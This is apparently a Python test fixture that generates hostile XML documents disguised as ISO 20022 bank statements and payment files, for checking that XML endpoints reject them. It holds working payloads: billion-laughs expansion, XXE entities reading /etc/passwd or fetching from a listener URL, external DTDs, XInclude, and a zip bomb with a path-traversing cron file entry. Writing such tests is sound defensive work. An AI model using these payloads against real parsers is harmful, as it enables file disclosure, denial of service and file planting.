"""Hostile XML documents, each wrapped around a given root element so format detection passes.

Every document here must be refused by every endpoint that reads XML, before anything is
expanded, fetched or stored.
"""

import io
import zipfile
from dataclasses import dataclass

CAMT_053 = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"
PAIN_002 = "urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"
PAIN_001 = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"

ROOT_ELEMENTS = {
    CAMT_053: "BkToCstmrStmt",
    PAIN_002: "CstmrPmtStsRpt",
    PAIN_001: "CstmrCdtTrfInitn",
}

# What a file:// entity would bring into an answer if it were ever resolved.
LOCAL_FILE = "/etc/passwd"
LOCAL_FILE_CONTENT_MARKER = "root:"


@dataclass(frozen=True)
class Attack:
    name: str
    data: bytes
    # False for documents that are harmless as long as nothing processes them (XInclude): they
    # may be read as an empty file, but must never bring anything in.
    must_be_refused: bool = True


def _document(namespace: str, prolog: str = "", body: str = "", declaration: str = "") -> str:
    root = ROOT_ELEMENTS[namespace]
    head = declaration or '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}\n{prolog}<Document xmlns="{namespace}"><{root}>{body}</{root}></Document>'


def _zip_bomb() -> bytes:
    """A ZIP of 32 MiB of zeros (about 32 KiB packed), with a hostile document beside it."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("statement.xml", b"\0" * (32 * 1024 * 1024))
        archive.writestr("../../etc/cron.d/evil", b"* * * * * root true")
    return packed.getvalue()


def attacks(namespace: str, *, listener_url: str) -> list[Attack]:
    """Every attack for a document type; ``listener_url`` is an http URL nothing may fetch."""
    laughs = (
        '<!DOCTYPE Document [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{level} "{("&lol" + str(level - 1) + ";") * 10}">'
            if level > 1
            else '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            for level in range(1, 10)
        )
        + "]>"
    )
    file_entity = f'<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file://{LOCAL_FILE}">]>'
    http_entity = f'<!DOCTYPE Document [<!ENTITY xxe SYSTEM "{listener_url}/entity">]>'
    parameter_entity = (
        f'<!DOCTYPE Document [<!ENTITY % remote SYSTEM "{listener_url}/dtd"> %remote;]>'
    )
    external_dtd = f'<!DOCTYPE Document SYSTEM "{listener_url}/document.dtd">'
    public_dtd = f'<!DOCTYPE Document PUBLIC "-//EVIL//DTD//EN" "{listener_url}/public.dtd">'
    xinclude = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="file://{LOCAL_FILE}" parse="text"/>'
    )
    doctype_utf16 = _document(
        namespace, file_entity, "<x>&xxe;</x>", '<?xml version="1.0" encoding="UTF-16"?>'
    )
    doctype_utf32 = _document(
        namespace, file_entity, "<x>&xxe;</x>", '<?xml version="1.0" encoding="UTF-32"?>'
    )
    deep = "<a>" * 5000 + "</a>" * 5000
    return [
        Attack("billion laughs", _document(namespace, laughs, "<x>&lol9;</x>").encode()),
        Attack("file entity", _document(namespace, file_entity, "<x>&xxe;</x>").encode()),
        Attack("http entity", _document(namespace, http_entity, "<x>&xxe;</x>").encode()),
        Attack("parameter entity", _document(namespace, parameter_entity).encode()),
        Attack("external dtd", _document(namespace, external_dtd).encode()),
        Attack("public dtd", _document(namespace, public_dtd).encode()),
        Attack(
            "xinclude of a local file",
            _document(namespace, body=xinclude).encode(),
            must_be_refused=False,
        ),
        Attack("doctype in utf-16", b"\xff\xfe" + doctype_utf16.encode("utf-16-le")),
        Attack("doctype in utf-16 big-endian", b"\xfe\xff" + doctype_utf16.encode("utf-16-be")),
        Attack("doctype in utf-32", b"\xff\xfe\x00\x00" + doctype_utf32.encode("utf-32-le")),
        Attack("deep nesting", _document(namespace, body=deep).encode()),
        Attack(
            "declared utf-8 but latin-1 bytes",
            _document(namespace, body="<x>M\xfcller</x>").encode("latin-1"),
        ),
        Attack(
            "declared utf-16 but utf-8 bytes",
            _document(namespace, declaration='<?xml version="1.0" encoding="UTF-16"?>').encode(),
        ),
        Attack(
            "unknown encoding",
            _document(namespace, declaration='<?xml version="1.0" encoding="X-EVIL-7"?>').encode(),
        ),
        Attack("truncated document", _document(namespace).encode()[:-20]),
        Attack("not xml at all", b"%PDF-1.7\n\x00\x01\x02\xff binary junk"),
        Attack("empty file", b""),
        Attack("zip bomb with a path-traversing member", _zip_bomb()),
    ]
